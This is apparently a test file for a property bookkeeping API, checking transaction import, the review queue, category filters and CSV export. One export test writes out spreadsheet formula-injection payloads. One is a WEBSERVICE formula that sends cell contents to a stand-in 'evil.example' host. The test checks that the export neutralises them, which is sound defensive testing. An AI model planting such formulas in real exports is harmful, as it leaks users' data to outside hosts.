import { beforeAll, describe, expect, it } from "vitest";
import bankCsv from "../fixtures/bank-2025-07.csv?raw";
import { call, createProperty, createTransaction } from "../helpers";

let propertyId: string;
let uncategorized: any[];

beforeAll(async () => {
  propertyId = (await createProperty({ address: "77 Cedar Court Unit B, Lakewood, CO 80226" })).id;
  const form = new FormData();
  form.set("file", new File([bankCsv], "bank.csv", { type: "text/csv" }));
  form.set("format", "bank");
  form.set("property_id", propertyId);
  form.set("source_account", "Checking ...5530");
  const imported = await call("POST", "/api/v1/transactions/import", { body: form });
  if (imported.status !== 201) throw new Error(JSON.stringify(imported.body));
  uncategorized = (await call("GET", "/api/v1/transactions?uncategorized=true")).body.items;
});

describe("the review queue (uncategorized=true)", () => {
  it("lists the rows an import could not categorise, and uncategorized=false the others", async () => {
    expect(uncategorized.map((t) => t.description)).toEqual(["STARBUCKS #1234", "STARBUCKS #1234"]);
    const others = (await call("GET", `/api/v1/transactions?uncategorized=false&property_id=${propertyId}`)).body;
    const all = (await call("GET", `/api/v1/transactions?property_id=${propertyId}`)).body;
    expect(others.total + uncategorized.length).toBe(all.total);
    expect(others.items.every((t: any) => t.extra_metadata.uncategorized === undefined)).toBe(true);
  });

  it("takes a row out when a category is set, and keeps it when only the description changes", async () => {
    const [first, second] = uncategorized;
    const described = await call("PATCH", `/api/v1/transactions/${second.id}`, { json: { description: "Coffee with the plumber" } });
    expect(described.body.extra_metadata.uncategorized).toBe(true);
    const categorized = await call("PATCH", `/api/v1/transactions/${first.id}`, { json: { category: "expense:travel" } });
    expect(categorized.status).toBe(200);
    expect(categorized.body.category).toBe("expense:travel");
    expect(categorized.body.extra_metadata).not.toHaveProperty("uncategorized");
    const queue = (await call("GET", "/api/v1/transactions?uncategorized=true")).body;
    expect(queue.items.map((t: any) => t.id)).toEqual([second.id]);
  });
});

describe("category filter with several values", () => {
  it("matches any of the categories or groups separated by commas", async () => {
    const res = await call("GET", `/api/v1/transactions?property_id=${propertyId}&category=expense:utilities:water,expense:utilities:internet`);
    expect(res.status).toBe(200);
    expect(res.body.items.map((t: any) => t.description).sort()).toEqual(["COMCAST CABLE COMM", "DENVER WATER"]);
    expect(res.body.sum.expense).toBe("151.19");
    const grouped = await call("GET", `/api/v1/transactions?property_id=${propertyId}&category=revenue,expense:maintenance`);
    expect(grouped.body.items.map((t: any) => t.description).sort()).toEqual(["HOME DEPOT #1517", "ZELLE FROM TENANT MARIA GARCIA JULY RENT"]);
  });

  it("refuses a list with an unknown category", async () => {
    const res = await call("GET", "/api/v1/transactions?category=expense:utilities:water,expense:nonsense");
    expect(res.status).toBe(422);
    expect(res.body.detail[0].loc).toEqual(["query", "category"]);
  });
});

describe("GET /api/v1/transactions/export.csv", () => {
  it("exports every match, in the list's order, with a header, signed amounts and the property's address", async () => {
    const res = await call("GET", `/api/v1/transactions/export.csv?property_id=${propertyId}&start_date=2025-07-01&end_date=2025-07-05&sort=transaction_date`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="transactions_2025-07-01_2025-07-05.csv"');
    const lines = (res.body as string).trim().split("\r\n");
    expect(lines[0]).toBe("date,type,category,category_label,description,amount,signed_amount,property,source_account,id,bank_line");
    expect(lines.slice(1).map((line) => line.split(",").slice(0, 7).join(","))).toEqual([
      "2025-07-01,REVENUE,revenue:long_term_rental,Long-term rental income,ZELLE FROM TENANT MARIA GARCIA JULY RENT,1850.00,1850.00",
      "2025-07-03,EXPENSE,expense:utilities:electricity,Electricity,XCEL ENERGY PAYMENT,142.37,-142.37",
      "2025-07-05,EXPENSE,expense:utilities:internet,Internet,COMCAST CABLE COMM,89.99,-89.99",
      expect.stringMatching(/^2025-07-05,EXPENSE,expense:(travel|other),[^,]+,(STARBUCKS #1234|Coffee with the plumber),4.50,-4.50$/),
      expect.stringMatching(/^2025-07-05,EXPENSE,expense:(travel|other),[^,]+,(STARBUCKS #1234|Coffee with the plumber),4.50,-4.50$/),
    ]);
    expect(lines[1]).toContain('"77 Cedar Court Unit B, Lakewood, CO 80226",Checking ...5530,');
  });

  it("keeps text that a spreadsheet would run as a formula as text", async () => {
    const created = await createTransaction({ transaction_date: "2031-01-02", description: "=HYPERLINK(\"http://evil\")", source_account: "+1 card" });
    const res = await call("GET", "/api/v1/transactions/export.csv?start_date=2031-01-01");
    const row = (res.body as string).trim().split("\r\n")[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil"")"`);
    expect(row).toContain("'+1 card");
    expect(row.endsWith(created.id)).toBe(true);
    // A minus and a digit start a formula too, unless the cell is a plain number.
    await createTransaction({ transaction_date: "2031-01-03", description: '-1+WEBSERVICE("http://evil.example/?"&E3)', source_account: "-42" });
    const next = (await call("GET", "/api/v1/transactions/export.csv?start_date=2031-01-03")).body as string;
    expect(next).toContain(`"'-1+WEBSERVICE(""http://evil.example/?""&E3)"`);
    expect(next).toContain(",-42,");
    expect(next).toContain(",-100.00,");
  });

  it("answers only the header when nothing matches, and 422 for a bad filter", async () => {
    const empty = await call("GET", "/api/v1/transactions/export.csv?start_date=2099-01-01");
    expect(empty.body).toBe("date,type,category,category_label,description,amount,signed_amount,property,source_account,id,bank_line\r\n");
    const bad = await call("GET", "/api/v1/transactions/export.csv?start_date=2025-08-01&end_date=2025-07-01");
    expect(bad.status).toBe(422);
    expect(bad.body.detail[0].loc).toEqual(["query", "end_date"]);
  });
});
